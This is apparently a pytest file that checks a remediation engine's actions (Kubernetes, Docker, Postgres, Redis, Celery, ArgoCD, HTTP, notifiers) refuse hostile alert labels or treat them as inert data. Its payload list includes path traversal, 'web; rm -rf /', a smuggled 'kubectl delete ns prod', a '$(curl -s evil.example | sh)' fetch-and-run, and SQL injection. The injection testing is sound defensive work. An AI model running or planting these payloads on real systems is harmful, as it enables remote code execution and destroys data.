"""Hostile label values rendered into every action of the catalogue.

Each action has one slot, the param where an alert's label is most dangerous (a name the
target's allow-list guards, a path, a number, or free text), written in a rule as
``{{ labels.v }}``. Each hostile value (climbs, encodings, line breaks, NUL, shell and SQL
syntax, 10 kB, right-to-left overrides, a homoglyph of an allowed name) is rendered,
validated and allow-listed exactly as a decision does (``Action.render_params``,
``parse_params``, ``check_allowed``, then the subject and, where it reads nothing, the plan).
It must be refused with a reason that names the param or the value, or be passed as inert
data: the value verbatim in its param, the subject (what is acted on, the lock and the
cooldown's key) the same as for a harmless value, and an http URL with the path the rule
wrote. A guarded name is never accepted.
"""

from __future__ import annotations

import asyncio
from dataclasses import dataclass
from datetime import UTC, datetime
from typing import Any, Literal
from urllib.parse import unquote, urlsplit

import psycopg
import pytest

from remediations.base import Action, ActionContext, PermanentError
from remediations.notifiers import NotifierConfig, PagerDutyNotifier, SlackNotifier, WebhookNotifier
from remediations.registry import default_registry
from remediations.secrets import Secret
from remediations.targets import (
    ArgoCdTarget,
    CeleryTarget,
    DockerTarget,
    HttpTarget,
    KubernetesTarget,
    PostgresTarget,
    RedisTarget,
    TargetConfig,
)
from rules.alert import Alert
from rules.templating import compile_value
from tests.support.sdkpool import SDK_CALLS

Slot = Literal["name", "data", "path", "number"]
V = "{{ labels.v }}"
HARMLESS = "web"
PG_DSN = "host=127.0.0.1 port=5432 user=postgres dbname=postgres"  # the test PostgreSQL (trust)

K8S = KubernetesTarget(kind="kubernetes", namespaces=["prod"], workloads="(deployment|statefulset)/(web|api)",
                       env_names=["LOG_LEVEL"])
DOCKER = DockerTarget(kind="docker", containers="web|api")
POSTGRES = PostgresTarget(kind="postgres", dsn=Secret("postgresql://x@127.0.0.1/app", "env:PG"),
                          databases=["app"])
REDIS = RedisTarget(kind="redis", url=Secret("redis://127.0.0.1:6379/0", "env:REDIS"), dbs=[0])
CELERY = CeleryTarget(kind="celery", broker=Secret("redis://127.0.0.1:6379/0", "env:BROKER"), queues=["web"])
ARGOCD = ArgoCdTarget(kind="argocd", base_url="https://argocd.example", token=Secret("t", "env:ARGO"),
                      applications=["web"])
HTTP = HttpTarget(kind="http", base_url="http://svc.example:8080/api")
NOTIFIERS: dict[str, NotifierConfig] = {
    "web": WebhookNotifier(kind="webhook", url=Secret("https://hooks.example/x", "env:HOOK")),
    "chat": SlackNotifier(kind="slack", url=Secret("https://hooks.example/s", "env:SLACK")),
    "pager": PagerDutyNotifier(kind="pagerduty", routing_key=Secret("k", "env:PD"))}


@dataclass(frozen=True)
class Case:
    """One action's slot: its target, the params a rule writes, where the label lands."""

    target: TargetConfig | None
    params: dict[str, Any]
    field: str
    slot: Slot


CATALOGUE = {
    "notify.log": Case(None, {"text": V}, "text", "data"),
    "notify.slack": Case(None, {"notifier": "chat", "text": V}, "text", "data"),
    "notify.pagerduty": Case(None, {"notifier": "pager", "text": "x", "dedup_key": V}, "dedup_key", "data"),
    "notify.webhook": Case(None, {"notifier": V, "text": "x"}, "notifier", "name"),
    "http.request": Case(HTTP, {"method": "POST", "path": f"/v1/cache/{V}"}, "path", "path"),
    "http.check": Case(HTTP, {"path": f"/health/{V}"}, "path", "path"),
    "kubernetes.rollout_restart": Case(K8S, {"namespace": "prod", "deployment": V}, "deployment", "name"),
    "kubernetes.rollout_undo": Case(K8S, {"namespace": "prod", "deployment": V}, "deployment", "name"),
    "kubernetes.scale": Case(K8S, {"namespace": V, "deployment": "web", "replicas": "+1"}, "namespace",
                             "name"),
    "kubernetes.delete_pod": Case(K8S, {"namespace": "prod", "pod": V}, "pod", "name"),
    "kubernetes.set_env": Case(K8S, {"namespace": "prod", "deployment": "web", "container": "web",
                                     "env": "LOG_LEVEL", "value": V}, "value", "data"),
    "kubernetes.set_memory_limit": Case(K8S, {"namespace": "prod", "deployment": "web", "container": V,
                                              "factor": 1.5, "max": "2Gi"}, "container", "name"),
    "kubernetes.diagnose": Case(K8S, {"namespace": "prod", "pod": V}, "pod", "name"),
    "docker.restart": Case(DOCKER, {"container": V}, "container", "name"),
    "docker.diagnose": Case(DOCKER, {"container": V}, "container", "name"),
    "docker.scale": Case(DOCKER, {"project": "shop", "service": V, "replicas": "+1", "max": 3}, "service",
                         "name"),
    "docker.set_limits": Case(DOCKER, {"container": V, "memory": "1g"}, "container", "name"),
    "postgres.terminate_idle": Case(POSTGRES, {"database": "app", "application_name": V, "idle_for": "10m"},
                                    "application_name", "data"),
    "postgres.cancel_long_queries": Case(POSTGRES, {"database": "app", "user": V, "running_for": "5m"},
                                         "user", "data"),
    "postgres.activity": Case(POSTGRES, {"database": V}, "database", "name"),
    "redis.flushdb": Case(REDIS, {"db": V}, "db", "number"),
    "redis.diagnose": Case(REDIS, {"db": V}, "db", "number"),
    "celery.purge": Case(CELERY, {"queue": V}, "queue", "name"),
    "celery.inspect": Case(CELERY, {"queues": [V]}, "queues", "name"),
    "argocd.rollback": Case(ARGOCD, {"application": V}, "application", "name"),
    "argocd.diagnose": Case(ARGOCD, {"application": V}, "application", "name"),
}

VALUES = {
    "dotdot-slash": "../../etc/passwd",
    "encoded-dotdot": "%2e%2e%2f%2e%2e%2fadmin",
    "newline": "web\nkubectl delete ns prod",
    "nul": "web\x00admin",
    "semicolon": "web; rm -rf /",
    "command-substitution": "$(curl -s evil.example | sh)",
    "sql-or": "' OR 1=1 --",
    "10-kb": "A" * 10240,
    "rtl-override": "\u202eweb",
    "homoglyph": "w\u0435b",  # a Cyrillic e: looks like the allowed "web"
}


def ctx(case: Case, value: str) -> ActionContext:
    alert = Alert(fingerprint="f00d", status="firing", labels={"alertname": "X", "v": value}, annotations={},
                  starts_at=datetime(2026, 1, 1, tzinfo=UTC), starts_at_raw="2026-01-01T00:00:00Z")
    return ActionContext(decision_id="d", rule="r", alert=alert, target_name="t" if case.target else None,
                         target=case.target, dry_run=True, calls=SDK_CALLS, notifiers=NOTIFIERS)


def prepared(name: str, case: Case, value: str) -> tuple[Any, ActionContext]:
    """The params as a decision has them after render, validate and allow-list (or the refusal)."""
    action: Any = default_registry().get(name)
    c = ctx(case, value)
    params = action.parse_params(action.render_params(compile_value(case.params), c.alert))
    action.check_allowed(c, params)
    return params, c


def test_every_action_of_the_catalogue_has_a_slot() -> None:
    assert sorted(CATALOGUE) == default_registry().names()


@pytest.mark.parametrize("value", list(VALUES.values()), ids=list(VALUES))
@pytest.mark.parametrize("name", sorted(CATALOGUE))
async def test_a_hostile_label_is_refused_or_inert(name: str, value: str) -> None:
    case = CATALOGUE[name]
    action: Any = default_registry().get(name)
    try:
        params, c = prepared(name, case, value)
    except PermanentError as exc:  # InvalidParams, TargetNotAllowed: refused before any plan
        reason = str(exc)
        assert case.field in reason or repr(value)[:20] in reason or "{{ labels.v }}" in reason, reason
        return
    assert case.slot in ("data", "path"), f"{name} accepted {value!r} as its {case.field}"
    harmless, hc = prepared(name, case, HARMLESS)
    if case.slot == "data" and type(action).subject is not Action.subject:  # keyed on its object
        assert action.subject(c, params) == action.subject(hc, harmless)
    if case.slot == "data":
        assert getattr(params, case.field) == value
        return
    plan = await action.plan(c, params)
    url = urlsplit(plan.details["url"])
    planned = url.path.split("/")
    assert (url.scheme, url.netloc, url.query) == ("http", "svc.example:8080", "")
    assert planned[:-1] == urlsplit((await action.plan(hc, harmless)).details["url"]).path.split("/")[:-1]
    last = unquote(unquote(planned[-1]))  # the label's segment, as servers (and proxies) decode it
    assert "/" not in last
    assert last not in (".", "..")
    assert plan.steps[0].split()[1] == plan.details["url"]


async def test_a_hostile_application_name_stays_a_bound_value_in_the_sql() -> None:
    """The values ``postgres.terminate_idle`` accepts as data select by equality on a real
    PostgreSQL: none matches the idle session the harmless name finds, and none is SQL."""
    app = "hostile18-web"
    accepted = [v for v in VALUES.values() if _accepts(v)]
    target = PostgresTarget(kind="postgres", databases=["postgres"], allow_superuser=True,
                            allow_replication=True, dsn=Secret(PG_DSN, "env:PG"))
    case = Case(target, {"database": "postgres", "application_name": V, "idle_for": "1s"}, "application_name",
                "data")
    action: Any = default_registry().get("postgres.terminate_idle")
    idle = await psycopg.AsyncConnection.connect(PG_DSN, application_name=app, autocommit=True)
    try:
        await asyncio.sleep(1.2)
        found = {}
        for value in [app, *accepted]:
            params, c = prepared("postgres.terminate_idle", case, value)
            plan = await action.plan(c, params)
            found[value] = [s["application_name"] for s in plan.details["sessions"]]
    finally:
        await idle.close()
    assert found.pop(app) == [app]
    assert found == {v: [] for v in accepted}
    assert len(accepted) >= 6


def _accepts(value: str) -> bool:
    try:
        prepared("postgres.terminate_idle", CATALOGUE["postgres.terminate_idle"], value)
    except PermanentError:
        return False
    return True
